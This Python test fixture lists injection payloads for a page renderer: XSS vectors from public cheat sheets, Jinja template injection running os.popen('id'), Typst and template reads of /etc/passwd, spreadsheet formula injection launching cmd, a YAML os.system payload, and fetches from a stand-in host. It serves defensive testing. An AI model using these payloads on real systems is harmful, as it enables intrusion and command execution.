r"""Texts that attack a page. In: nothing. Out: PAYLOADS, one text each, and the few that no CSV or YAML file can hold.

The techniques are those that two public lists name: the OWASP "XSS Filter Evasion Cheat Sheet"
(cheatsheetseries.owasp.org) and the PortSwigger "Cross-site scripting (XSS) cheat sheet"
(portswigger.net/web-security/cross-site-scripting/cheat-sheet), with those of our own formats added: Jinja, Typst,
spreadsheets, YAML. What would run here calls alert(), what would be fetched is asked of the host `tan-cong.invalid`.
"""

from __future__ import annotations

HOST = "tan-cong.invalid"

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//tan-cong.invalid/a.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<script\x08>alert(1)</script\x08>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    '<script type="module">import "//tan-cong.invalid/m.js"</script>',
    "<script src=data:text/javascript,alert(1)></script>",
    "<script>{onerror=alert}throw 1</script>",
    '"><script>alert(1)</script>',
    "'\"--></style></script><script>alert(1)</script>",
)
_ENDS_OF_WHAT_MAY_BE_AROUND = (
    "</title><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</code></pre><img src=x onerror=alert(1)>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "</div></section></main></body></html><img src=x onerror=alert(1)>",
    "</text></svg><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "]]><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onfocus=alert(1) autofocus tabindex=0",
    '" autofocus onfocus=alert(1) x="',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "x/onclick=alert(1)/",
    '" popovertarget="n1" onclick="alert(1)',
    '" style="position:fixed;inset:0;background:red',
    "class=dau-chim id=noi-dung",
)
_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(49))"></img>',
    '<img """><script>alert(1)</script>">',
    "<img src=x:x onerror&#61;alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload='alert(1)'",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div popover id=xx onbeforetoggle=alert(1)>x</div><button popovertarget=xx>x</button>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    "<xss onpointerenter=alert(1) contenteditable>x</xss>",
)
_FOREIGN_ELEMENTS = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><use href=//tan-cong.invalid/s.svg#a></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><image href=//tan-cong.invalid/b.png></image></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
)
_PAGES_AND_REQUESTS = (
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src=//tan-cong.invalid/ <",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//tan-cong.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href=//tan-cong.invalid/>",
    "<link rel=stylesheet href=//tan-cong.invalid/a.css>",
    "<link rel=prefetch href=//tan-cong.invalid/a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1) type=submit>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=//tan-cong.invalid/a.png>",
    "<img srcset=//tan-cong.invalid/a.png>",
    "<input type=image src=//tan-cong.invalid/a.png>",
    "<video poster=//tan-cong.invalid/a.png></video>",
    "<table background=//tan-cong.invalid/a.png><tr><td>x</td></tr></table>",
    "<a ping=//tan-cong.invalid/ href=x>x</a>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "javascript&colon;alert(1)",
    "java\x01script:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "data:text/html,<script>alert(1)</script>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1)) ![x](//tan-cong.invalid/a.png)",
)
_STYLES = (
    "<style>*{display:none}</style>",
    "<style>@import '//tan-cong.invalid/a.css';</style>",
    "<b style=background:url(//tan-cong.invalid/a.png)>x</b>",
    '";}body{background:url(//tan-cong.invalid/a.png)}@page{content:"',
    "<b style=width:expression(alert(1))>x</b>",
    "\\22\\3c script\\3e",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "{% for x in range(9) %}lap{% endfor %}",
    "{# ghi chú #}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7)",
    "{ho_so.tiep_nhan} {nam} {0} {unit.__class__}",
    "%s %(x)s %n",
)
_TYPST = (
    '#eval("7*7")',
    '#read("/etc/passwd")',
    "#{let x = 7*7; [Typst #x]}",
    '] #panic("het") [',
    '"); #panic("het") //',
    "$ sum_(i=0)^n 7/7 $",
    "`raw` ```typ #panic()``` *dam* _nghieng_ @nhan <nhan>",
    '#import "@preview/x:1.0.0": *',
    "= Tieu de // chu thich /* dai */",
)
_CHARACTERS = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &#60;b&#62; &#x3C;b>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%C0%BCscript%C0%BEalert(1)",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script› ʺ onclick=alert(1)",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\u202e<b>trái</b>\u202c \u2066x\u2069",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img\u00a0src=y\u2003onerror=alert(1)>",
    "\ufeff<b>đầu</b>",
    "\U0001f600<b>mặt cười</b>\u2713\uf0b7",
    "<i\u0300>a\u0336\u0489</i\u0300>",
    '=HYPERLINK("//tan-cong.invalid/";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "!!python/object/apply:os.system ['id'] &a *a",
    "../../../etc/passwd\\..\\con",
)

PAYLOADS = (
    *_SCRIPTS,
    *_ENDS_OF_WHAT_MAY_BE_AROUND,
    *_ATTRIBUTES,
    *_HANDLERS,
    *_FOREIGN_ELEMENTS,
    *_PAGES_AND_REQUESTS,
    *_ADDRESSES,
    *_STYLES,
    *_TEMPLATES,
    *_TYPST,
    *_CHARACTERS,
)

# What a submission's file is refused for: a null byte, and bytes that are no UTF-8 (an overlong "<", UTF-16, Latin-1).
REFUSED = (
    b"<scr\x00ipt>alert(1)</script>",
    b"\xc0\xbcscript\xc0\xbealert(1)",
    "<script>alert(1)</script>".encode("utf-16"),
    b"\xbcscript\xbealert(1)\xbc/script\xbe",
)
